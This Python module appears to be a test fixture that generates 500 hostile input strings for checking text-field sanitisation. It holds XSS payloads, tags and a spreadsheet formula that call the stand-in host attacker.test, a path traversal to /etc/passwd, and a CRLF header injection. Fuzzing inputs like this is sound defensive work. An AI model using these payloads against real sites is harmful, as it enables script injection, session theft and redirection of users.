"""500 hostile strings: what people have tried to smuggle through text fields, each in several wrappings."""

from __future__ import annotations

from itertools import product

CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=http://attacker.test/><button>go</button>",
    "<meta http-equiv=refresh content='0;url=http://attacker.test/'>",
    "<base href=http://attacker.test/>",
    "<link rel=stylesheet href=http://attacker.test/a.css>",
    "<style>@import 'http://attacker.test/a.css'</style>",
    "<object data=http://attacker.test/>",
    "<embed src=http://attacker.test/>",
    "<img src=http://attacker.test/pixel.png>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "`;alert(1);//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "url(http://attacker.test/)",
    "expression(alert(1))",
    "__proto__",
    "constructor",
    "=HYPERLINK('http://attacker.test')",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202eevil\u202c",
    "\ud800 half a surrogate",
    "../../../../etc/passwd",
    "&rows=x#cols=y?open=1",
    "%",
    "%2C,%2525",
    "a" * 3000,
    "👩‍👩‍👧‍👦 中文 עברית العربية",
    "\r\nSet-Cookie: a=b",
    "<x onclick=alert(1) style=position:fixed;inset:0>",
)
WRAPPINGS = ("{}", "an owl {} in a boat", '"{}', "'{}", "{}\n", "<b>{}", "</title>{}", "<!--{}-->", "{{{}}}", "{}{}")


def corpus() -> list[str]:
    """500 different strings."""
    return [wrap.replace("{}", core) if "{}" in wrap else core for core, wrap in product(CORES, WRAPPINGS)]
